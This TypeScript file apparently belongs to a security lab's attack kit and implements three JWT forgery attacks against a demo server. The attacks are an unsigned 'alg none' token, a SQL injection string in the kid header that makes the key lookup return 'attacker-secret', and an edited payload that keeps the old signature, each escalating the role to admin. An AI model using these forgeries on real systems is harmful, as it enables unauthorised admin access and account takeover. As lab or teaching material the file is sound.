import { base64url } from 'jose';
import { forgeUnsigned, signHs256 } from '../../../../common/jwt-inspect';
import type { ServerAttack } from '../../attack-kit';
import { tryAdmin, victimToken } from './scene';

const utf8 = (text: string) => new TextEncoder().encode(text);

/** The kid that turns the key lookup's SQL into "return this string as the key". */
export const INJECTED_KID = "x' UNION SELECT 'attacker-secret' --";

/** alg "none": the victim's claims, role admin, no signature. */
export const algNone: ServerAttack = {
  async run(run) {
    const { header, payload } = await victimToken(run);
    run.say('Rewrote the header to alg "none", set role "admin", dropped the signature.');
    return tryAdmin(run, forgeUnsigned(header, { ...payload, role: 'admin' }));
  },
};

/** kid SQL injection: the lookup returns the attacker's secret, which signs the forged token. */
export const kidInjection: ServerAttack = {
  async run(run) {
    const { header, payload } = await victimToken(run);
    const forged = await signHs256(
      { ...header, kid: INJECTED_KID },
      { ...payload, role: 'admin' },
      utf8('attacker-secret'),
    );
    run.say(`Set kid to ${INJECTED_KID} and signed role "admin" with HS256 and "attacker-secret".`);
    return tryAdmin(run, forged);
  },
};

/** Signature not verified: the payload edited, the old signature kept. */
export const noVerify: ServerAttack = {
  async run(run) {
    const { token, payload } = await victimToken(run);
    const [headerPart, , signature] = token.split('.');
    const body = base64url.encode(utf8(JSON.stringify({ ...payload, role: 'admin' })));
    run.say('Edited the payload to role "admin" and kept the old signature.');
    return tryAdmin(run, `${headerPart}.${body}.${signature}`);
  },
};
